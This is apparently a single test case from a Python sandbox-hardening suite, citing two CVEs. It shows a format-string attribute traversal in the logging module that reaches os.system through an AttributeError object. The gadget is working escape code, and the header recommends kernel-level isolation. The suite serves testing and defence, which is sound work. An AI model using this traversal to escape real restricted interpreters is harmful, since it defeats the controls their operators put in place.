# title: Let a log message read attributes
# tries: Lets logging fill in a format string, which walks from a class to the module os, and catches the object at its end from the error about a name that is not there.
# impact: Integrity
# reference: CVE-2023-41039, CVE-2024-47532
# proof: returned
# host: run
# allowed: policy off
# advice: Count on the kernel, not on rules about Python: with isolation around the process this gains nothing.


def attempt(host):
    import logging
    import uuid

    path = "{thing.__init__.__globals__[os].no_such_name}"
    formatter = logging.Formatter(path, style="{", validate=False)
    try:
        formatter.format(logging.makeLogRecord({"thing": uuid.UUID}))
    except AttributeError as error:
        return f"{error.obj.system} by a log message"
